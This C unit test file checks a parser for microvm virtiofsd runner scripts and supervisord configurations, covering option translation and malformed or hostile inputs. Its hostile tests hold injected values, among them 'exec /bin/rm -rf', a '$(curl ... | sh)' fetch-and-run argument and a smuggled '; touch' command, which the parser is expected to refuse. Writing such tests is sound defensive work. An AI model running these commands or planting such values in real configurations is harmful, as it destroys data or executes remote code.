/* Unit tests of the share-options reader (mu-share-options.c) through
 * mu_runner_load, on runners whose bin/virtiofsd-run, supervisord
 * configuration and per-share scripts are written exactly as upstream's
 * nixos-modules/microvm/virtiofsd/default.nix writes them (2025 and 2026
 * shapes), and on malformed or hostile ones. */
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "mu-error.h"
#include "mu-runner.h"
#include "mu-virtiofsd.h"

typedef struct {
  char *dir;    /* scratch directory */
  char *runner; /* dir/runner */
  char *store;  /* dir/store: where the runner's symlinks lead */
  GString *config;
} Fixture;

/* One share as microvm.shares declares it, plus the module's globals. */
typedef struct {
  const char *tag;
  const char *socket;
  const char *source;
  gboolean read_only;
  const char *cache; /* NULL: the 2025 shape, without --cache */
  gboolean posix_acl;
  const char *extra_args; /* the share's extraArgs, joined with spaces */
} Share;

static void
write_path (const char *path, const char *contents, int mode)
{
  g_autofree char *parent = g_path_get_dirname (path);
  g_autoptr (GError) error = NULL;

  g_assert_cmpint (g_mkdir_with_parents (parent, 0755), ==, 0);
  /* A new file each time, written without fsync: a scratch tree, where
   * a hundred fsyncs would cost seconds. */
  (void) g_unlink (path);
  g_assert_true (
    g_file_set_contents_full (path, contents, -1, G_FILE_SET_CONTENTS_NONE, mode, &error));
  g_assert_no_error (error);
}

static void
write_file (Fixture *f, const char *relative, const char *contents, int mode)
{
  g_autofree char *path = g_build_filename (f->runner, relative, NULL);
  write_path (path, contents, mode);
}

static void
fixture_set_up (Fixture *f, gconstpointer data)
{
  f->dir = g_dir_make_tmp ("mh-test-share-options-XXXXXX", NULL);
  g_assert_nonnull (f->dir);
  f->runner = g_build_filename (f->dir, "runner", NULL);
  f->store = g_build_filename (f->dir, "store", NULL);
  g_assert_cmpint (g_mkdir_with_parents (f->store, 0755), ==, 0);
  write_file (f, "bin/microvm-run", "#!/bin/sh\n", 0755);
  f->config = g_string_new (NULL);
}

static void
fixture_tear_down (Fixture *f, gconstpointer data)
{
  const char *argv[] = { "rm", "-rf", f->dir, NULL };

  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, NULL,
                               NULL, NULL, NULL));
  g_string_free (f->config, TRUE);
  g_free (f->runner);
  g_free (f->store);
  g_free (f->dir);
}

/* share/microvm/virtiofs/TAG as lib/runner.nix writes it. */
static void
write_share_data (Fixture *f, const Share *share)
{
  g_autofree char *source = g_strdup_printf ("share/microvm/virtiofs/%s/source", share->tag);
  g_autofree char *socket = g_strdup_printf ("share/microvm/virtiofs/%s/socket", share->tag);
  g_autofree char *source_line = g_strdup_printf ("%s\n", share->source);
  g_autofree char *socket_line = g_strdup_printf ("%s\n", share->socket);

  write_file (f, source, source_line, 0644);
  write_file (f, socket, socket_line, 0644);
}

/* The writeShellScript "virtiofsd-TAG" of the 2026 module (2025's when
 * share->cache is NULL: fixed --posix-acl --xattr, no --cache nor
 * --readonly), with the blank "  \" lines its empty optionalStrings
 * leave. */
static char *
upstream_script (const Share *share, const char *hypervisor, const char *group,
                 const char *thread_pool_size, const char *inode_file_handles,
                 const char *global_extra)
{
  GString *s = g_string_new ("#!/nix/store/0000-bash-5.2p37/bin/bash\n");
  gboolean shape_2026 = share->cache != NULL;

  g_string_append (s, "if [ $(id -u) = 0 ]; then\n"
                      "  OPT_RLIMIT=\"--rlimit-nofile 1048576\"\n"
                      "else\n"
                      "  OPT_RLIMIT=\"\"\n"
                      "fi\n"
                      "exec /nix/store/1111-virtiofsd-1.13.2/bin/virtiofsd \\\n");
  /* lib.escapeShellArg quotes what is not [[:alnum:],._+:@%/-]. */
  g_string_append_printf (s, "  --socket-path='%s' \\\n", share->socket);
  g_string_append_printf (s, "  %s%s \\\n", group != NULL ? "--socket-group=" : "",
                          group != NULL ? group : "");
  g_string_append_printf (s, "  --shared-dir=%s \\\n", share->source);
  g_string_append (s, "  $OPT_RLIMIT \\\n");
  g_string_append_printf (s, "  --thread-pool-size %s \\\n", thread_pool_size);
  if (shape_2026)
    {
      g_string_append_printf (s, "  %s \\\n", share->posix_acl ? "--posix-acl --xattr" : "");
      g_string_append_printf (s, "  --cache=%s \\\n", share->cache);
    }
  else
    g_string_append (s, "  --posix-acl --xattr \\\n");
  g_string_append_printf (s, "  %s%s \\\n", inode_file_handles ? "--inode-file-handles=" : "",
                          inode_file_handles ? inode_file_handles : "");
  g_string_append_printf (s, "  %s%s \\\n", strcmp (hypervisor, "crosvm") == 0 ? "--tag=" : "",
                          strcmp (hypervisor, "crosvm") == 0 ? share->tag : "");
  if (shape_2026)
    g_string_append_printf (s, "  %s \\\n", share->read_only ? "--readonly" : "");
  g_string_append_printf (s, "  %s%s\n", global_extra, shape_2026 ? " \\" : "");
  if (shape_2026)
    g_string_append_printf (s, "  %s\n", share->extra_args != NULL ? share->extra_args : "");
  return g_string_free (s, FALSE);
}

/* bin/virtiofsd-run -> store script execing supervisord with a toINI
 * configuration listing @shares. */
static void
write_upstream_runner (Fixture *f, const char *hypervisor, const Share *shares, gsize n_shares,
                       const char *group, const char *thread_pool_size,
                       const char *inode_file_handles, const char *global_extra)
{
  g_autofree char *config_path = g_build_filename (f->store, "vm-virtiofsd-supervisord.conf", NULL);
  g_autofree char *run_script = g_build_filename (f->store, "microvm-vm-virtiofsd-run", NULL);
  g_autofree char *run_link = g_build_filename (f->runner, "bin/virtiofsd-run", NULL);
  g_autofree char *run_text = g_strdup_printf (
    "#!/nix/store/0000-bash-5.2p37/bin/bash\n"
    "exec /nix/store/2222-python3.12-supervisor-4.2.5/bin/supervisord --configuration %s "
    "\"$@\"\n",
    config_path);

  g_string_append (f->config, "[eventlistener:notify]\nbuffer_size=48\n"
                              "command=/nix/store/3333-supervisord-event-handler\n"
                              "events=PROCESS_STATE\n\n");
  for (gsize i = 0; i < n_shares; i++)
    {
      g_autofree char *name = g_strdup_printf ("virtiofsd-%s", shares[i].tag);
      g_autofree char *script_path = g_build_filename (f->store, name, NULL);
      g_autofree char *script = upstream_script (&shares[i], hypervisor, group, thread_pool_size,
                                                 inode_file_handles, global_extra);

      write_share_data (f, &shares[i]);
      write_path (script_path, script, 0555);
      g_string_append_printf (f->config,
                              "[program:virtiofsd-%s]\ncommand=%s\nstderr_syslog=true\n"
                              "stdout_syslog=true\n\n",
                              shares[i].tag, script_path);
    }
  g_string_append (f->config, "[supervisord]\nnodaemon=true\nuser=root\n");
  write_path (config_path, f->config->str, 0444);
  write_path (run_script, run_text, 0555);
  write_file (f, "share/microvm/hypervisor", hypervisor, 0644);
  g_assert_cmpint (g_mkdir_with_parents (f->runner, 0755), ==, 0);
  g_assert_cmpint (symlink (run_script, run_link), ==, 0);
}

static const Share ro_share = { "ro", "vm-virtiofs-ro.sock", "/srv/ro", TRUE, "auto", TRUE, NULL };
static const Share rw_share = { "rw",
                                "vm-virtiofs-rw.sock",
                                "rw",
                                FALSE,
                                "never",
                                FALSE,
                                "--allow-direct-io -o announce_submounts" };

static MuRunner *
load (Fixture *f)
{
  g_autoptr (GError) error = NULL;
  MuRunner *runner = mu_runner_load (f->runner, &error);

  g_assert_no_error (error);
  g_assert_nonnull (runner);
  return runner;
}

static const MuShare *
share_of (MuRunner *runner, const char *tag)
{
  for (guint i = 0; i < runner->shares->len; i++)
    if (strcmp (((MuShare *) runner->shares->pdata[i])->tag, tag) == 0)
      return runner->shares->pdata[i];
  g_assert_not_reached ();
}

static char *
joined_argv (MuVirtiofsdFlavour flavour, const MuShare *share, GError **error)
{
  MuVirtiofsd virtiofsd = { (char *) "/usr/bin/virtiofsd", flavour };
  g_auto (GStrv) argv =
    mu_virtiofsd_argv (&virtiofsd, share->tag, share->socket, share->source, share->options, error);

  return argv != NULL ? g_strjoinv (" ", argv) : NULL;
}

static char *
dropped (const MuShare *share)
{
  g_ptr_array_add (share->options->dropped, NULL);
  g_autofree char *text = g_strjoinv ("; ", (char **) share->options->dropped->pdata);
  g_ptr_array_remove_index (share->options->dropped, share->options->dropped->len - 1);
  return g_steal_pointer (&text);
}

/* A message that may reach a terminal: one line without control characters. */
static void
assert_printable (const char *message)
{
  g_assert_true (g_utf8_validate (message, -1, NULL));
  for (const char *p = message; *p != '\0'; p = g_utf8_next_char (p))
    g_assert_false (g_unichar_iscntrl (g_utf8_get_char (p)));
}

static char *
load_error (Fixture *f, int code)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (MuRunner) runner = mu_runner_load (f->runner, &error);

  g_assert_null (runner);
  g_assert_error (error, MU_ERROR, code);
  g_test_message ("%s", error->message);
  assert_printable (error->message);
  return g_strdup (error->message);
}

static void
assert_contains (const char *text, const char *part)
{
  if (strstr (text, part) == NULL)
    g_error ("\"%s\" does not contain \"%s\"", text, part);
}

/* ------------------------------------------------------------------ */

static void
test_no_virtiofsd_run (Fixture *f, gconstpointer data)
{
  g_autoptr (MuRunner) runner = NULL;
  g_autofree char *rust = NULL;

  write_share_data (f, &rw_share);
  runner = load (f);
  g_assert_false (runner->has_virtiofsd_run);
  g_assert_false (share_of (runner, "rw")->options->read_only);
  g_assert_cmpuint (share_of (runner, "rw")->options->options->len, ==, 0);
  rust = joined_argv (MU_VIRTIOFSD_RUST, share_of (runner, "rw"), NULL);
  g_assert_cmpstr (rust, ==,
                   "/usr/bin/virtiofsd --socket-path vm-virtiofs-rw.sock --shared-dir rw "
                   "--sandbox namespace");
}

static void
test_upstream_2026_qemu (Fixture *f, gconstpointer data)
{
  const Share shares[] = { ro_share, rw_share };
  g_autoptr (MuRunner) runner = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *ro_rust = NULL, *ro_c = NULL, *rw_rust = NULL, *rw_c = NULL;
  g_autofree char *ro_dropped = NULL;
  g_autofree char *nproc = g_strdup_printf ("--thread-pool-size=%d", g_get_num_processors ());
  MuVirtiofsd c = { (char *) "/usr/lib/qemu/virtiofsd", MU_VIRTIOFSD_C };
  MuVirtiofsd rust = { (char *) "/usr/bin/virtiofsd", MU_VIRTIOFSD_RUST };
  const MuShare *ro, *rw;

  write_upstream_runner (f, "qemu", shares, 2, "kvm", "`nproc`", NULL, "");
  runner = load (f);
  g_assert_true (runner->has_virtiofsd_run);
  ro = share_of (runner, "ro");
  rw = share_of (runner, "rw");
  g_assert_true (ro->options->read_only);
  g_assert_false (rw->options->read_only);

  ro_rust = joined_argv (MU_VIRTIOFSD_RUST, ro, &error);
  g_assert_no_error (error);
  {
    g_autofree char *want1 =
      g_strdup_printf ("/usr/bin/virtiofsd --socket-path vm-virtiofs-ro.sock "
                       "--shared-dir /srv/ro --sandbox namespace %s --posix-acl "
                       "--xattr --cache=auto --readonly",
                       nproc);
    g_assert_cmpstr (ro_rust, ==, want1);
  }
  /* The C virtiofsd has no --readonly: the kernel makes it read-only. */
  ro_c = joined_argv (MU_VIRTIOFSD_C, ro, &error);
  g_assert_no_error (error);
  {
    g_autofree char *want2 =
      g_strdup_printf ("/usr/bin/virtiofsd --socket-path=vm-virtiofs-ro.sock -o "
                       "source=/srv/ro %s -o posix_acl -o xattr -o cache=auto",
                       nproc);
    g_assert_cmpstr (ro_c, ==, want2);
  }
  g_assert_cmpstr (mu_virtiofsd_read_only_dir (&c, ro->options, "/srv/ro"), ==, "/srv/ro");
  g_assert_null (mu_virtiofsd_read_only_dir (&rust, ro->options, "/srv/ro"));
  g_assert_null (mu_virtiofsd_read_only_dir (&c, rw->options, "/x/rw"));

  rw_rust = joined_argv (MU_VIRTIOFSD_RUST, rw, &error);
  g_assert_no_error (error);
  {
    g_autofree char *want3 =
      g_strdup_printf ("/usr/bin/virtiofsd --socket-path vm-virtiofs-rw.sock "
                       "--shared-dir rw --sandbox namespace %s --cache=never "
                       "--allow-direct-io --announce-submounts",
                       nproc);
    g_assert_cmpstr (rw_rust, ==, want3);
  }
  rw_c = joined_argv (MU_VIRTIOFSD_C, rw, &error);
  g_assert_no_error (error);
  {
    g_autofree char *want4 =
      g_strdup_printf ("/usr/bin/virtiofsd --socket-path=vm-virtiofs-rw.sock -o "
                       "source=rw %s -o cache=none -o allow_direct_io -o "
                       "announce_submounts",
                       nproc);
    g_assert_cmpstr (rw_c, ==, want4);
  }

  /* Root's: the socket group and $OPT_RLIMIT. */
  ro_dropped = dropped (ro);
  assert_contains (ro_dropped, "--socket-group=kvm (changing the socket's group needs root");
  assert_contains (ro_dropped, "$OPT_RLIMIT (the runner's script sets --rlimit-nofile for root");
}

static void
test_upstream_2025_shape (Fixture *f, gconstpointer data)
{
  Share old = { "data", "data.sock", "/srv/data", FALSE, NULL, TRUE, NULL };
  g_autoptr (MuRunner) runner = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *rust = NULL;

  write_upstream_runner (f, "cloud-hypervisor", &old, 1, "kvm", "4", "prefer", "--log-level debug");
  runner = load (f);
  rust = joined_argv (MU_VIRTIOFSD_RUST, share_of (runner, "data"), &error);
  g_assert_no_error (error);
  g_assert_cmpstr (rust, ==,
                   "/usr/bin/virtiofsd --socket-path data.sock --shared-dir /srv/data --sandbox "
                   "namespace --thread-pool-size=4 --posix-acl --xattr --inode-file-handles=prefer "
                   "--log-level=debug");
  /* The C virtiofsd has no file handles: refused, naming share and option. */
  g_assert_null (joined_argv (MU_VIRTIOFSD_C, share_of (runner, "data"), &error));
  g_assert_error (error, MU_ERROR, MU_ERROR_UNSUPPORTED);
  assert_contains (error->message, "the share data asks virtiofsd for --inode-file-handles=prefer");
  assert_contains (error->message, "Rust virtiofsd");
}

static void
test_crosvm_tag (Fixture *f, gconstpointer data)
{
  Share share = ro_share;
  g_autoptr (MuRunner) runner = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *rust = NULL;

  share.extra_args = "--sandbox=none";
  write_upstream_runner (f, "crosvm", &share, 1, NULL, "2", NULL, "");
  runner = load (f);
  rust = joined_argv (MU_VIRTIOFSD_RUST, share_of (runner, "ro"), &error);
  g_assert_no_error (error);
  /* The runner's own --sandbox replaces the default one. */
  g_assert_cmpstr (rust, ==,
                   "/usr/bin/virtiofsd --socket-path vm-virtiofs-ro.sock --shared-dir /srv/ro "
                   "--thread-pool-size=2 --posix-acl --xattr --cache=auto --tag=ro --readonly "
                   "--sandbox=none");
  g_assert_null (joined_argv (MU_VIRTIOFSD_C, share_of (runner, "ro"), &error));
  g_assert_error (error, MU_ERROR, MU_ERROR_UNSUPPORTED);
  assert_contains (error->message, "the share ro asks virtiofsd for --tag=ro");
}

/* Options combinations: each extraArgs gives the Rust arguments (or NULL
 * for a refusal containing @refusal) and the C ones. */
static void
test_extra_args (Fixture *f, gconstpointer data)
{
  static const struct {
    const char *extra;
    const char *rust; /* after the fixed head */
    const char *c;    /* after the fixed head, NULL: C refuses */
    const char *refusal;
  } cases[] = {
    { "--writeback --killpriv-v2 --security-label --syslog",
      "--writeback --killpriv-v2 "
      "--security-label --syslog",
      "-o writeback -o killpriv_v2 -o security_label --syslog", NULL },
    { "-o cache=always,xattr,no_posix_acl", "--cache=always --xattr", "-o cache=always -o xattr",
      NULL },
    { "--cache metadata", "--cache=metadata", NULL, "--cache=metadata" },
    { "--xattrmap=:map::user.virtiofs.: --modcaps=-mknod",
      "--xattrmap=:map::user.virtiofs.: "
      "--modcaps=-mknod",
      "-o xattrmap=:map::user.virtiofs.: -o modcaps=-mknod", NULL },
    { "--log-level error --seccomp=log", "--log-level=error --seccomp=log", NULL, "--seccomp" },
    { "--rlimit-nofile 64", "--rlimit-nofile=64", "--rlimit-nofile=64", NULL },
    { "--rlimit-nofile=4000000000", "", "", NULL }, /* above the hard limit: dropped */
    { "--translate-uid map:1000:0:1 --preserve-noatime",
      "--translate-uid=map:1000:0:1 "
      "--preserve-noatime",
      NULL, "--translate-uid" },
    { "--sandbox=chroot", NULL, NULL, "--sandbox=chroot" },
    { "--inode-file-handles=mandatory", NULL, NULL, "CAP_DAC_READ_SEARCH" },
    { "--fd=3", NULL, NULL, "--fd=3" },
    { "--daemonize", NULL, NULL, "--daemonize" },
    { "--print-capabilities", NULL, NULL, "print and exit" },
    { "--frobnicate", NULL, NULL, "--frobnicate" },
    { "-o flock", NULL, NULL, "-o flock" },
    { "--cache=sometimes", NULL, NULL, "auto|always|never|metadata" },
    { "--thread-pool-size=lots", NULL, NULL, "not a number" },
    { "--readonly=yes", NULL, NULL, "takes no value" },
    { "--tag=other", NULL, NULL, "another tag" },
    { "--log-level", NULL, NULL, "needs a value" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      Share share = { "t", "t.sock", "/srv/t", FALSE, "auto", FALSE, cases[i].extra };
      g_autoptr (MuRunner) runner = NULL;
      g_autoptr (GError) error = NULL;
      g_autofree char *rust = NULL, *c = NULL, *rust_want = NULL, *c_want = NULL;
      const char *rust_head = "/usr/bin/virtiofsd --socket-path t.sock --shared-dir /srv/t "
                              "--sandbox namespace --thread-pool-size=1 --cache=auto";
      const char *c_head = "/usr/bin/virtiofsd --socket-path=t.sock -o source=/srv/t "
                           "--thread-pool-size=1 -o cache=auto";

      g_test_message ("extraArgs: %s", cases[i].extra);
      /* A fresh runner and store per case, in the same scratch directory. */
      g_free (f->runner);
      g_free (f->store);
      f->runner = g_strdup_printf ("%s/runner-%zu", f->dir, i);
      f->store = g_strdup_printf ("%s/store-%zu", f->dir, i);
      g_string_truncate (f->config, 0);
      write_file (f, "bin/microvm-run", "#!/bin/sh\n", 0755);
      write_upstream_runner (f, "qemu", &share, 1, NULL, "1", NULL, "");
      if (cases[i].rust == NULL)
        {
          g_autofree char *message = load_error (f, MU_ERROR_UNSUPPORTED);
          assert_contains (message, "the share t asks virtiofsd for");
          assert_contains (message, cases[i].refusal);
          continue;
        }
      runner = load (f);
      rust = joined_argv (MU_VIRTIOFSD_RUST, share_of (runner, "t"), &error);
      g_assert_no_error (error);
      rust_want = cases[i].rust[0] != '\0' ? g_strdup_printf ("%s %s", rust_head, cases[i].rust)
                                           : g_strdup (rust_head);
      g_assert_cmpstr (rust, ==, rust_want);
      c = joined_argv (MU_VIRTIOFSD_C, share_of (runner, "t"), &error);
      if (cases[i].c == NULL)
        {
          g_assert_null (c);
          g_assert_error (error, MU_ERROR, MU_ERROR_UNSUPPORTED);
          assert_contains (error->message, cases[i].refusal);
          continue;
        }
      g_assert_no_error (error);
      c_want =
        cases[i].c[0] != '\0' ? g_strdup_printf ("%s %s", c_head, cases[i].c) : g_strdup (c_head);
      g_assert_cmpstr (c, ==, c_want);
    }
}

static void
test_direct_command (Fixture *f, gconstpointer data)
{
  g_autofree char *config = g_build_filename (f->store, "direct.conf", NULL);
  g_autofree char *run = g_strdup_printf ("#!/bin/sh\nexec supervisord -c %s\n", config);
  g_autoptr (MuRunner) runner = NULL;

  write_share_data (f, &ro_share);
  write_path (config,
              "[program:virtiofsd-ro]\n"
              "command = /usr/bin/virtiofsd --socket-path=vm-virtiofs-ro.sock "
              "--shared-dir=/srv/ro --readonly\n",
              0644);
  write_file (f, "bin/virtiofsd-run", run, 0755);
  runner = load (f);
  g_assert_true (share_of (runner, "ro")->options->read_only);
}

/* ------------------------------------------------------------------ */
/* Malformed and hostile */

static void
test_not_virtiofsd (Fixture *f, gconstpointer data)
{
  g_autofree char *script = g_build_filename (f->store, "virtiofsd-ro", NULL);
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  write_path (script, "#!/bin/sh\nexec /bin/rm -rf /home/someone\n", 0555);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "the share ro is served by \"/bin/rm\", not virtiofsd");
}

static void
test_expansion_refused (Fixture *f, gconstpointer data)
{
  Share share = ro_share;
  g_autofree char *message = NULL;

  share.extra_args = "$(curl example.invalid | sh)";
  write_upstream_runner (f, "qemu", &share, 1, "kvm", "1", NULL, "");
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "uses the shell expansion \"$(curl");
}

static void
test_operator_refused (Fixture *f, gconstpointer data)
{
  Share share = ro_share;
  g_autofree char *message = NULL;

  share.extra_args = "; touch /tmp/owned";
  write_upstream_runner (f, "qemu", &share, 1, "kvm", "1", NULL, "");
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "the shell operator ';'");
}

static void
test_huge_config (Fixture *f, gconstpointer data)
{
  g_autofree char *config = g_build_filename (f->store, "vm-virtiofsd-supervisord.conf", NULL);
  g_autofree char *huge = g_strnfill (1024 * 1024, ';');
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  g_assert_cmpint (g_chmod (config, 0644), ==, 0);
  write_path (config, huge, 0644);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "it is 1048576 bytes, more than the 65536");
}

static void
test_symlink_loop (Fixture *f, gconstpointer data)
{
  g_autofree char *link = g_build_filename (f->runner, "bin/virtiofsd-run", NULL);
  g_autofree char *message = NULL;

  write_share_data (f, &ro_share);
  g_assert_cmpint (symlink (link, link), ==, 0);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "it is a symlink loop");
}

static void
test_fifo_config (Fixture *f, gconstpointer data)
{
  g_autofree char *config = g_build_filename (f->store, "vm-virtiofsd-supervisord.conf", NULL);
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  g_assert_cmpint (g_unlink (config), ==, 0);
  g_assert_cmpint (mkfifo (config, 0644), ==, 0);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "it is not a regular file");
}

static void
test_missing_section (Fixture *f, gconstpointer data)
{
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  write_share_data (f, &rw_share);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "has no [program:virtiofsd-rw], so whether the share rw is read-only");
}

static void
test_extra_section (Fixture *f, gconstpointer data)
{
  const Share shares[] = { ro_share, rw_share };
  g_autofree char *source = g_build_filename (f->runner, "share/microvm/virtiofs/rw", NULL);
  g_autofree char *message = NULL;
  const char *argv[] = { "rm", "-rf", source, NULL };

  write_upstream_runner (f, "qemu", shares, 2, "kvm", "1", NULL, "");
  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, NULL,
                               NULL, NULL, NULL));
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "serves a share rw that share/microvm/virtiofs does not have");
}

static void
test_socket_mismatch (Fixture *f, gconstpointer data)
{
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  write_file (f, "share/microvm/virtiofs/ro/socket", "elsewhere.sock\n", 0644);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "listens on another socket");
}

static void
test_run_not_supervisord (Fixture *f, gconstpointer data)
{
  g_autofree char *message = NULL;

  write_share_data (f, &ro_share);
  write_file (f, "bin/virtiofsd-run", "#!/bin/sh\nexec /usr/bin/virtiofsd --shared-dir=/\n", 0755);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "it runs /usr/bin/virtiofsd, not supervisord");
}

static void
test_two_exec_lines (Fixture *f, gconstpointer data)
{
  g_autofree char *script = g_build_filename (f->store, "virtiofsd-ro", NULL);
  g_autofree char *message = NULL;

  write_upstream_runner (f, "qemu", &ro_share, 1, "kvm", "1", NULL, "");
  write_path (script,
              "#!/bin/sh\nif [ -e /x ]; then\n  exec virtiofsd --socket-path=vm-virtiofs-ro.sock\n"
              "fi\nexec virtiofsd --socket-path=vm-virtiofs-ro.sock --readonly\n",
              0555);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "more than one exec line");
}

static void
test_escaped_section_name (Fixture *f, gconstpointer data)
{
  g_autofree char *run = NULL;
  g_autofree char *config = g_build_filename (f->store, "esc.conf", NULL);
  g_autofree char *message = NULL;

  write_share_data (f, &ro_share);
  write_path (config, "[program:virtiofsd-\033[2Jro]\ncommand=/usr/bin/virtiofsd\n", 0644);
  run = g_strdup_printf ("#!/bin/sh\nexec supervisord --configuration=%s\n", config);
  write_file (f, "bin/virtiofsd-run", run, 0755);
  message = load_error (f, MU_ERROR_LAYOUT);
  assert_contains (message, "is not a share's tag");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
#define ADD(path, func) \
  g_test_add ("/share-options/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("no-virtiofsd-run-keeps-defaults", test_no_virtiofsd_run);
  ADD ("upstream-2026-qemu-both-flavours", test_upstream_2026_qemu);
  ADD ("upstream-2025-shape", test_upstream_2025_shape);
  ADD ("crosvm-tag", test_crosvm_tag);
  ADD ("extra-args-combinations", test_extra_args);
  ADD ("direct-virtiofsd-command", test_direct_command);
  ADD ("hostile/not-virtiofsd", test_not_virtiofsd);
  ADD ("hostile/shell-expansion", test_expansion_refused);
  ADD ("hostile/shell-operator", test_operator_refused);
  ADD ("hostile/huge-config", test_huge_config);
  ADD ("hostile/symlink-loop", test_symlink_loop);
  ADD ("hostile/fifo-config", test_fifo_config);
  ADD ("hostile/escape-in-section", test_escaped_section_name);
  ADD ("malformed/missing-section", test_missing_section);
  ADD ("malformed/extra-section", test_extra_section);
  ADD ("malformed/socket-mismatch", test_socket_mismatch);
  ADD ("malformed/run-not-supervisord", test_run_not_supervisord);
  ADD ("malformed/two-exec-lines", test_two_exec_lines);
#undef ADD
  return g_test_run ();
}
